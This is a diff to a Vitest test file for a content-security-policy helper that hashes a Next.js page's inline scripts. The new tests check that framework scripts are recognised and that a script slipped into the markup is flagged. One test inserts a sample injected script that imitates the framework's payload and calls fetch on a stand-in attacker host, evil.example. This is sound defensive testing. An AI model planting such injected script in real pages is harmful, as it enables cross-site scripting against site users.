@@ -1,4 +1,6 @@
 import { createHash } from 'node:crypto';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { hashedPolicy, inlineScripts, isFrameworkScript, pageScripts, scriptHash } from '@/lib/inline-scripts';
 
@@ -90,5 +92,22 @@ describe('hashes and the policy', () => {
       "default-src 'self'; script-src 'self' 'sha256-a' 'sha256-b'; script-src-attr 'none'; style-src 'self' 'unsafe-inline'",
     );
     expect(hashedPolicy(policy, [])).toContain("script-src 'self';");
+  });
+});
+
+describe('a page as next build wrote it (the change-password page, tests/fixtures/cached-page.html)', () => {
+  const html = readFileSync(join(process.cwd(), 'tests/fixtures/cached-page.html'), 'utf8');
+
+  it("finds Turbopack's start, the payload bootstrap and the payload, all the framework's", () => {
+    const scripts = inlineScripts(html);
+    expect(scripts.map((text) => text.slice(0, 22))).toEqual(['(globalThis["TURBOPACK', '(self.__next_f=self.__', 'self.__next_f.push([1,']);
+    // Each is exactly the text between its tags in the file.
+    for (const text of scripts) expect(html).toContain(`>${text}</script>`);
+    expect(pageScripts(html)).toEqual({ hashes: scripts.map(scriptHash), foreign: 0 });
+  });
+
+  it('refuses a script slipped into the markup, and keeps the others', () => {
+    const injected = html.replace('<main', '<script>self.__next_f.push([1,"x"]);fetch("//evil.example")</script><main');
+    expect(pageScripts(injected)).toEqual({ hashes: pageScripts(html).hashes, foreign: 1 });
   });
 });
